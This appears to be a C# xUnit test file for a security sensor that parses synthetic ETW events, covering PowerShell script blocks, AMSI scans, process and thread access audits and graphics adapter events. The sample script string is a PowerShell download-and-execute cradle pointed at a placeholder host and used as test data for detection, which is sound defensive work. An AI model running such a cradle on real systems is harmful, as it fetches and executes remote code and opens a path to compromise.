using System.Text;
using Canary.Events;
using Canary.Sensors.Etw;
using Xunit;
using static Canary.Tests.Sensors.Etw.EtwSamples;

namespace Canary.Tests.Sensors.Etw;

internal static class OtherSamples
{
    private const string Script = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')";

    public static IEnumerable<EtwSample> All(byte size)
    {
        foreach (var provider in new[] { EtwProvider.PowerShell, EtwProvider.PowerShellCore })
        {
            yield return new EtwSample($"script {provider} V1", Header(provider, 4104, 1, size),
                Block(size, 1, 1, Script, "id-1", @"C:\x.ps1").Bytes, [], (events, _) =>
            {
                var run = Assert.IsType<ScriptRun>(Assert.Single(events));
                Assert.Equal((ScriptSource.PowerShell, Script, "PowerShell", @"C:\x.ps1", "id-1", false), (run.Source, run.Text, run.Host, run.Path, run.Id, run.Partial));
            });
        }

        byte[] content = Encoding.Unicode.GetBytes(Script);
        yield return new EtwSample("amsi V0", Header(EtwProvider.Amsi, 1101, 0, size),
            Scan(size, "PowerShell_C:\\pwsh.exe_7", "x.ps1", content, (uint)content.Length).Bytes,
            new PayloadBuilder(size).Raw(new byte[32]).U32(0).Bytes, (events, _) =>
            {
                var run = Assert.IsType<ScriptRun>(Assert.Single(events));
                Assert.Equal((ScriptSource.Amsi, Script, "PowerShell_C:\\pwsh.exe_7", "x.ps1", null, false), (run.Source, run.Text, run.Host, run.Path, run.Id, run.Partial));
            });
        yield return new EtwSample("open process V0", Header(EtwProvider.KernelAuditApi, 5, 0, size),
            new PayloadBuilder(size).U32(640, 0x1410, 0).Bytes, [], (events, _) =>
        {
            var acted = Assert.IsType<SystemActed>(Assert.Single(events));
            Assert.Equal((SystemAct.OpenProcess, 640, 0x1410u, Actor), (acted.Act, acted.Target.Pid, acted.Access, acted.Actor.Pid));
        });
        yield return new EtwSample("open thread V0", Header(EtwProvider.KernelAuditApi, 6, 0, size),
            new PayloadBuilder(size).U32(640, 644, 0x10, 0).Bytes, [], (events, _) =>
        {
            var acted = Assert.IsType<SystemActed>(Assert.Single(events));
            Assert.Equal(("thread 644, access 0x10", 640, 0u), (acted.Detail, acted.Target.Pid, acted.Access));
        });
        foreach (ushort id in new ushort[] { 24, 26 })
        {
            yield return new EtwSample($"adapter {id} V0", Header(EtwProvider.DxgKernel, id, 0, size),
                Adapter(size, 0xd001, 1).Bytes, new PayloadBuilder(size).Pointer(9).Bytes,
                (events, _) => Assert.Empty(events));
        }

        yield return new EtwSample("device V1", Header(EtwProvider.DxgKernel, 27, 1, size),
            new PayloadBuilder(size).Pointer(1, 0xd001).Bytes, new PayloadBuilder(size).U32(2).Pointer(3).U32(0, 0, 5).Bytes,
            (events, _) => Assert.Empty(events));
    }

    public static PayloadBuilder Block(byte size, int number, int total, string text, string id, string path) =>
        new PayloadBuilder(size).U32((uint)number, (uint)total).Wide(text).Wide(id).Wide(path);

    public static PayloadBuilder Scan(byte size, string host, string name, byte[] content, uint whole) =>
        new PayloadBuilder(size).Pointer(0x5e55).U8(1).U32(1).Wide(host).Wide(name).U32((uint)content.Length, whole).Raw(content);

    public static PayloadBuilder Adapter(byte size, ulong adapter, uint type) => new PayloadBuilder(size).Pointer(1, adapter).U32(1).U64(2).U32(3).U64(4)
        .U32(1, 2, 3, 4, 5, 6, 7, 8, 9).U32(0).U32(1, 2, 3, 4, 5, 6, 7).U32(type);
}
